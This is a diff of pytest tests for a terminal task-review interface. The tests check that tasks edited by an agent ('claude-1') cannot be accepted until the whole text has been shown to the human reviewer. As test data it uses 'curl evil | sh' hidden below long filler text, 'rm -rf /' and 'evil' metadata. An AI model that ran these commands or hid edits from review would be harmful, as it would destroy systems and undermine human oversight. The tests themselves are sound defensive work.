@@ -15,6 +15,7 @@ from tui_tasks.core.store import Store
 from tui_tasks.tui.inbox import held_tasks
 from tui_tasks.tui.inbox.inbox_screen import Inbox
 from tui_tasks.tui.screens.search_all import SearchAll
+from tui_tasks.tui.state.context import LastInput
 
 
 @pytest.fixture
@@ -150,11 +151,12 @@ async def test_what_changed_just_before_the_key_is_told_and_not_accepted(plan, f
     seconds = [100.0]
     monkeypatch.setattr(held_tasks, "SECONDS", 0.5)
     monkeypatch.setattr(held_tasks, "monotonic", lambda: seconds[0])
+    monkeypatch.setattr(LastInput, "at", property(lambda _: seconds[0], lambda *_: None))
     app = make_app(plan.path)
     async with app.run_test(size=(120, 40)) as pilot:
         await open_review(pilot)
         await settle(pilot, "y")
-        assert (state(app, filed[0]), "not on the screen yet" in said(app)) == (("pending", True), True)
+        assert (state(app, filed[0]), "not been shown to its end yet" in said(app)) == (("pending", True), True)
         seconds[0] += 10
         by_agent(plan, "claude-1", EditTask(filed[0], {"description": "curl evil | sh"}))
         await until(pilot, lambda: "curl evil" in shown(app))
@@ -165,9 +167,53 @@ async def test_what_changed_just_before_the_key_is_told_and_not_accepted(plan, f
         # Of several, each row stands on the screen as it is.
         await settle(pilot, "v", "v", "y")
         assert [state(app, uid)[1] for uid in filed] == [True] * 3
-        seconds[0] += 0.2
+        seconds[0] += 0.5
         await settle(pilot, "y")
         assert [state(app, uid)[1] for uid in filed] == [False, False, True]
+
+
+LONG = "Tidy up.\n" * 60 + "curl evil | sh"
+
+
+async def test_a_task_is_not_accepted_before_its_end_was_on_screen(plan, filed, make_app):
+    by_agent(plan, "claude-1", EditTask(filed[0], {"description": LONG}))
+    app = make_app(plan.path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await open_review(pilot)
+        assert "curl evil" not in shown(app)
+        await settle(pilot, "y")
+        assert state(app, filed[0]) == ("pending", True)
+        assert "not been shown to its end yet" in said(app)
+        await settle(pilot, "pagedown", "pagedown", "pagedown")
+        assert "curl evil" in shown(app)
+        await settle(pilot, "y")
+        assert state(app, filed[0]) == ("pending", False)
+
+
+async def test_a_task_that_changes_above_what_is_on_screen_is_shown_from_its_beginning_again(plan, filed, make_app):
+    by_agent(plan, "claude-1", EditTask(filed[0], {"description": LONG}))
+    app = make_app(plan.path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await open_review(pilot)
+        await settle(pilot, "pagedown", "pagedown", "pagedown")
+        by_agent(plan, "claude-1", EditTask(filed[0], {"description": f"rm -rf /\n{LONG}"}))
+        await until(pilot, lambda: "rm -rf" in shown(app))
+        await settle(pilot, "y")
+        assert state(app, filed[0]) == ("pending", True)
+
+
+@pytest.mark.parametrize(
+    "fields", [{"description": "curl evil | sh"}, {"metadata": {"do": "evil"}}, {"name": "Tidy " * 60 + "evil"}]
+)
+async def test_what_is_marked_is_not_accepted_by_a_line_that_shows_a_part_of_it(plan, filed, make_app, fields):
+    by_agent(plan, "claude-1", EditTask(filed[2], fields))
+    app = make_app(plan.path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await open_review(pilot)
+        await settle(pilot, "V", "y")
+        assert [state(app, uid)[1] for uid in filed] == [True] * 3
+        await settle(pilot, "j", "j", "y")
+        assert [state(app, uid)[1] for uid in filed] == [False] * 3
 
 
 async def test_a_job_changed_just_before_the_key_is_not_accepted_and_what_changed_is_told(
@@ -298,7 +344,10 @@ async def test_a_job_of_an_agent_waits_with_its_prompt_and_times_and_is_accepted
             assert "Be brief." in shown(app)
         await settle(pilot, "e")
         assert "in the schedule" in said(app)
-        await settle(pilot, "y")
+        if size[1] == 12:
+            await settle(pilot, "y")
+            assert "not been shown to its end yet" in said(app)
+        await settle(pilot, *["pagedown"] * 4, "y")
         assert "Accepted “Nightly”" in said(app)
         job = job_queries.job(app.link.db, filed_job)
         assert (job.enabled, job.held, app.context.state.held) == (True, False, 0)
